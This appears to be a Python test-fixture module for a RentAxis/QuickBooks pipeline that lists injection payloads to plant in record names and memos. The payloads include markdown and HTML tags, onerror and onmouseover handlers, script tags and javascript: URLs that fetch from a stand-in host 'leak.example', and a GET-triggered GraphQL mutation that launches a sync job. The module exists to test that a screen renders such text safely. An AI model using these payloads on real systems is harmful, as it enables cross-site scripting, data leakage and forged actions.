"""Texts that want to do harm through the accountant's screen, the records they stand in, and what of them has to be read there.

Each attack has a day of its own with a few others, after the demo's last: no list is too long to show them. Not here: how the records
get into RentAxis and QuickBooks (``planting``), what is run on them, and what becomes of them on the screen.
"""

import datetime as dt
from collections.abc import Sequence
from dataclasses import dataclass
from urllib.parse import quote

from rentaxis_pipelines.mapping.text import legal_display_name

FIRST_DAY = dt.date(2026, 11, 10)
A_DAY = 5  # attacks; a day's list shows 50 rows, and each attack leaves up to ten
STRANGER = "leak.example"  # a host that does not exist; the listener is the one that would answer
IDS = 994_000

# Launches a sync of everything on a day, by a mere GET. Short enough for a name in QuickBooks, which holds 500 characters.
LAUNCH = (
    'mutation{launchRun(executionParams:{selector:{repositoryLocationName:"rentaxis_pipelines",repositoryName:"__repository__",'
    'jobName:"bulk_sync_force__demo"},runConfigData:{},executionMetadata:{tags:[{key:"dagster/partition",value:"2026-11-10"}]}}){__typename}}'
)


@dataclass(frozen=True)
class Attack:
    """One text. ``day`` is the day of everything it stands in; ``number`` ends the ids of those records."""

    number: int
    text: str

    @property
    def day(self) -> dt.date:
        return FIRST_DAY + dt.timedelta(days=self.number // A_DAY)


def attacks(leak: str) -> list[Attack]:
    """Every kind of text that Markdown, GitHub's autolinks or HTML might take for more than text. ``leak``: the listener's address."""
    launch = f"/graphql?query={quote(LAUNCH, safe='(){}[],')}"  # encoded as far as Markdown and QuickBooks' names ask for
    texts = [
        f"![a]({leak}/picture)",
        f"![launch]({launch})",
        "![nux](/graphql?query=mutation{setNuxSeen})",
        f'![a][b] [c](<{leak}/angle> "t")\n\n[b]: {leak}/reference\n[c]: {leak}/reference',
        f"[Pay here]({leak}/link) [![a]({leak}/inner)]({leak}/outer)",
        f"<{leak}/autolink> <pay@{STRANGER}>",
        f"{leak}/bare https://{STRANGER}/bare ftp://{STRANGER}/bare",
        f"www.{STRANGER}/www pay@{STRANGER} mailto:pay@{STRANGER} xmpp:pay@{STRANGER}/a",
        f"![a](//{STRANGER}/no-colon) [a](//{STRANGER}) \\![a]({leak}/backslash)",
        f'<img src="{leak}/img" onerror="fetch(\'{leak}/onerror\')"><img srcset="{leak}/srcset 1x">',
        f'<a href="{leak}/anchor" ping="{leak}/ping">Pay</a><form action="{leak}/form"><button>Pay</button></form>',
        f"<script>fetch('{leak}/script')</script><iframe src=\"{leak}/iframe\"></iframe>",
        f'<style>@import url({leak}/style);</style><link rel=stylesheet href={leak}/sheet><div style="background:url({leak}/css)">a</div>',
        f'<svg><image href="{leak}/svg"/></svg><video poster={leak}/poster></video><object data={leak}/object></object>',
        f'<meta http-equiv=refresh content="0;url={leak}/refresh"><base href="{leak}/"><!-- <b>a</b>',
        f"&lt;img src={leak}/entity&gt; &#60;img src={leak}/number&#62; &amp;amp; &nbsp; &copy",
        "a | b || c \\| d \\\\| e \\",
        "a\n\n# head\n\n| x | y |\n| - | - |\n| z | w |\r\n- item\n> said\n\n---\n1. one\n\n    code\n\n</td></tr></table>",
        "**b** _i_ *e* __f__ ~~s~~ `c` ``d`` \\*g\\* ^h^ ==i== $j$ :smile: [^1] - [ ] k {l} <b>m</b>",
        f"' onmouseover='fetch(\"{leak}/quote\")' {{{{ 7*7 }}}} ${{7*7}} javascript:fetch('{leak}/js') [a](javascript:alert(1))",
    ]
    return [Attack(number, text) for number, text in enumerate(texts)]


def days(of: Sequence[Attack]) -> list[str]:
    """Their days, in order."""
    return sorted({one.day.isoformat() for one in of})


# What an id of a record says of it; the same for its kind of record, whichever that is.
def waiting(attack: Attack) -> int:
    """Tenant and program whose names stand in QuickBooks already, vendor whose e-mail two there have; account and property."""
    return IDS + attack.number


def renting(attack: Attack) -> int:
    """Tenant who is made in QuickBooks; the invoice that goes through."""
    return IDS + 100 + attack.number


def refused(attack: Attack) -> int:
    """Invoice, payment and expense that do not go through."""
    return IDS + 200 + attack.number


def held_up(attack: Attack) -> int:
    """Invoice and expense that wait for another record; the payment of an invoice that does not go through."""
    return IDS + 300 + attack.number


def decided(attack: Attack) -> int:
    """The payment that a person leaves out."""
    return IDS + 400 + attack.number


def shown(attack: Attack) -> list[str]:
    """What has to be read of it on the screen, letter by letter: names of either side, numbers, categories, memos."""
    text = attack.text
    return [
        f"Tenant {text}",
        f"'{in_quickbooks(text)}' (customer ",
        f"Program Program {text}",
        f"'{in_quickbooks(f'North {text}')}' (vendor ",
        f"Invoice {refused(attack)} {text}",
        f"Payment {refused(attack)} {text}",
        f"Expense {refused(attack)} ({text})",
        f"No account is mapped for the expense category {text}.",
        f"by hand {text}"[:150],  # the memo there now; a long one is cut in the report of what was edited
    ]


def in_quickbooks(text: str) -> str:
    """The text as a name that QuickBooks takes: without colons and line ends."""
    return legal_display_name(text)
